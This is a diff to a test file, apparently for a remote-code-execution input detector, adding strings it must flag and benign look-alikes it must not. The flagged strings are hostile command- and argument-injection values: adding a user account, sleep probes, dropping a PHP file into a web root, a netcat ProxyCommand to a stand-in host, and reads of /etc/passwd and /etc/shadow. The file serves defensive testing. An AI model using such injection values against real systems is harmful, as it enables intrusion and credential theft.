@@ -2,6 +2,13 @@ import { testTables } from './tables.js';
 
 testTables('rce', {
   mustFlag: [
+    'id; uname',
+    'x; net user zoe secret /add',
+    '$(sleep 9)',
+    '`sleep 9`',
+    'x;sleep 9s',
+    '--output-document=/srv/www/x.php http://a.example/y',
+    '-oProxyCommand=nc a.example 9',
     // Behind a separator
     ';cat /etc/passwd',
     '; cat /etc/shadow #',
@@ -84,6 +91,12 @@ testTables('rce', {
     '|getent+hosts+x.a.example&',
   ],
   mustNotFlag: [
+    'Cat & Mouse',
+    'Ping | Pong',
+    'net user growth',
+    '--output json',
+    '-o json',
+    '--config is a flag',
     'run npm install && npm test',
     "date night; who's in?",
     'R&D',
